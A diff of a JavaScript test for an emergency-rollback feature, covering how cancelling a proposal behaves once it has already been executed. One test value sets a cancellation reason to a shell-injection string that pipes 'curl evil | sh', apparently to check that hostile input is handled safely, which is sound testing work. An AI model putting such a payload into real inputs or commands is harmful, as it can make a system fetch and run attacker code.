@@ -41,8 +41,12 @@ describe('an emergency rollback', () => {
 
   it('cancels what is open alone: an executed proposal is not rolled back by cancelling it', async () => {
     const form = { proposal: bad, reason: 'Critical bug in liquidation', ...because('proposal/cancel') };
-    await world.failed('proposal/cancel', 'Cancel a proposal', { ended: 'State', form, approvers: TWO });
     const open = await world.proposed();
+    await world.as('ana').command('/ops run', { action: 'upgrade:proposal/cancel' });
+    await world.as('ana').submit(form);
+    const refused = JSON.stringify((await world.as('ana').form()).fields);
+    expect(refused).toContain(`${bad}`);
+    expect(refused).toContain(open);
     const reason = `"; curl evil | sh #'`;
     await world.carriedOut('proposal/cancel', 'Cancel a proposal', {
       form: { ...form, proposal: open, reason },
